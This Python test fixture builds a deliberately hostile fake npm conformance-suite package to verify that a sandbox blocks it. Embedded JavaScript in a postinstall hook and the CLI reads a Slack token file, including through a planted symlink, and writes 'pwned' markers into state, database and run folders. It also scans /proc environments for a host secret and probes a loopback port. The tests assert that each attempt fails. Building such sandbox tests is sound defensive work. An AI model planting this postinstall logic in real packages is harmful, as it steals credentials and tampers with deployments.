"""A hostile conformance-suite version, made as a suite of our own (bench/fakes/conformance_suite.py: shaped like
the real one, `dist/index.js` as its bin, `requirements/<set>.yaml`) with attacks added.

It attacks as a suite version published by someone else could: its `postinstall` (run by npm at install) and its
CLI (run against every server) try to read the Slack token file (directly, and through a link planted in its own
files), read the config, create a table in the state database, write into the state, runs and environments
folders, find a host process's secret in /proc, and reach a service on the host's loopback. Each writes what it
managed into a mark in the one folder it may write (`attack-postinstall.json` in its install folder,
`attack-cli.json` in its output folder), which the tests read back before checking the effects.
"""

from __future__ import annotations

import contextlib
import json
import secrets
import socket
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.fakes import conformance_suite as fake_suite
from tests.fakes.conformance_suite import PACKAGE as PACKAGE
from tests.fakes.conformance_suite import pack as pack

ATTACKS = (
    "token",
    "token_link",
    "config",
    "state_db",
    "state_folder",
    "runs",
    "envs",
    "host_proc",
    "host_loopback",
)
"""What every hostile part tries (the CLI also reads the link its postinstall planted: `planted_link`)."""


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at: the deployment's files and a host process holding a secret in its environment."""

    token: Path
    config: Path
    db: Path
    runs: Path
    envs: Path
    host_pid: int
    canary: str
    """A value only the host process's environment holds."""
    host_port: int
    """A service on the host's loopback."""

    def to_json(self) -> str:
        return json.dumps(
            {
                "TOKEN": str(self.token),
                "CONFIG": str(self.config),
                "DB": str(self.db),
                "STATE": str(self.db.parent),
                "RUNS": str(self.runs),
                "ENVS": str(self.envs),
                "HOST_PID": self.host_pid,
                "CANARY": self.canary,
                "HOST_PORT": self.host_port,
            }
        )


ATTACK_JS = """
const REPORT = {{ ran: true, pid: process.pid, uid: process.getuid() }};
async function attempt(name, fn) {{
  try {{ REPORT[name] = "DONE: " + String(await fn()).slice(0, 200); }}
  catch (e) {{ REPORT[name] = "STOPPED: " + String(e && e.message).slice(0, 200); }}
}}
async function attack(T, mine) {{
  await attempt("token", () => fs.readFileSync(T.TOKEN, "utf8"));
  await attempt("token_link", () => {{
    const link = path.join(mine, "token-link");
    try {{ fs.unlinkSync(link); }} catch {{}}
    fs.symlinkSync(T.TOKEN, link);
    return fs.readFileSync(link, "utf8");
  }});
  await attempt("config", () => fs.readFileSync(T.CONFIG, "utf8"));
  await attempt("state_db", async () => {{
    const {{ DatabaseSync }} = await import("node:sqlite");
    new DatabaseSync(T.DB).exec("create table pwned (x text)");
    return "table written";
  }});
  await attempt("state_folder", () => {{ fs.writeFileSync(path.join(T.STATE, "pwned.txt"), "x"); return "written"; }});
  await attempt("runs", () => {{ fs.writeFileSync(path.join(T.RUNS, "pwned.txt"), "x"); return "written"; }});
  await attempt("envs", () => {{ fs.writeFileSync(path.join(T.ENVS, "pwned.txt"), "x"); return "written"; }});
  await attempt("host_proc", () => {{
    let seen = 0;
    for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {{
      seen += 1;
      try {{ if (fs.readFileSync("/proc/" + pid + "/environ", "latin1").includes(T.CANARY)) return "found in " + pid; }}
      catch {{}}
    }}
    throw new Error("the secret is in no environment of the " + seen + " processes in sight");
  }});
  await attempt("host_loopback", () => new Promise((ok, no) => {{
    const s = net.connect(T.HOST_PORT, "127.0.0.1", () => {{ s.destroy(); ok("connected"); }});
    s.on("error", no);
    setTimeout(() => no(new Error("no answer")), 3000);
  }}));
}}
"""

CLI_PRELUDE = """
const T = {targets};
{attack_js}
await attack(T, out);
await attempt("planted_link", () => fs.readFileSync(path.join(here, "token-link"), "utf8"));
fs.writeFileSync(path.join(out, "attack-cli.json"), JSON.stringify(REPORT));
"""
"""Runs in the CLI before it judges the server (`here` is its dist/, `out` its output folder)."""

POSTINSTALL_JS = """
const fs = require("fs"), net = require("net"), path = require("path");
const T = {targets};
{attack_js}
attack(T, path.join(__dirname, "dist")).then(() => {{
  fs.writeFileSync(path.join(process.env.INIT_CWD || __dirname, "attack-postinstall.json"), JSON.stringify(REPORT));
}});
"""


def write_suite(folder: Path, version: str, sets: dict[str, list[str]], targets: Targets | None = None) -> Path:
    """The package's tree: benign without `targets`, hostile with them (a postinstall, and attacks in its CLI)."""
    if targets is None:
        return fake_suite.write_suite(folder, version, sets)
    attack_js = ATTACK_JS.format()
    prelude = CLI_PRELUDE.format(targets=targets.to_json(), attack_js=attack_js)
    postinstall = POSTINSTALL_JS.format(targets=targets.to_json(), attack_js=attack_js)
    return fake_suite.write_suite(folder, version, sets, prelude=prelude, postinstall=postinstall)


def node_server(folder: Path, name: str) -> dict[str, object]:
    """A server of team-declared build (`language: other`) on Node's own http: it answers every request."""
    fake_suite.write_node_server(folder)
    return {
        "name": name,
        "sdk": "python",
        "language": "other",
        "path": str(folder),
        "transport": "http",
        "start": ["node", "server.js", "--port", "{port}"],
        "env": {"SERVER_NAME": name},
        "baseline_sdk_version": "2.3.0",
        "requirements": ["2025-11-25"],
        "timeouts": {"install": 120, "start": 30, "suite": 60, "snapshot": 30},
    }


@contextlib.contextmanager
def host_service() -> Iterator[int]:
    """A service listening on the host's loopback (the health port, a local fake): its port."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    try:
        yield int(listener.getsockname()[1])
    finally:
        listener.close()


@contextlib.contextmanager
def host_secret() -> Iterator[tuple[int, str]]:
    """A process of the host with a secret in its environment, as the watcher holds its own: (pid, secret)."""
    canary = "canary-" + secrets.token_hex(8)
    proc = subprocess.Popen(["sleep", "600"], env={"PATH": "/usr/bin:/bin", "MCP_WATCHER_TEST_SECRET": canary})
    try:
        yield proc.pid, canary
    finally:
        proc.kill()
        proc.wait()


def read_mark(path: Path) -> dict[str, str]:
    """A hostile part's mark: proof that it ran, and what it managed."""
    assert path.is_file(), f"the hostile code left no mark at {path}: it did not run"
    mark: dict[str, str] = json.loads(path.read_text(encoding="utf-8"))
    assert mark.get("ran") is True, mark
    return mark


def assert_stopped(mark: dict[str, str], *extra: str) -> None:
    """Every attack of the mark failed."""
    for name in (*ATTACKS, *extra):
        assert str(mark.get(name, "")).startswith("STOPPED"), (name, mark)
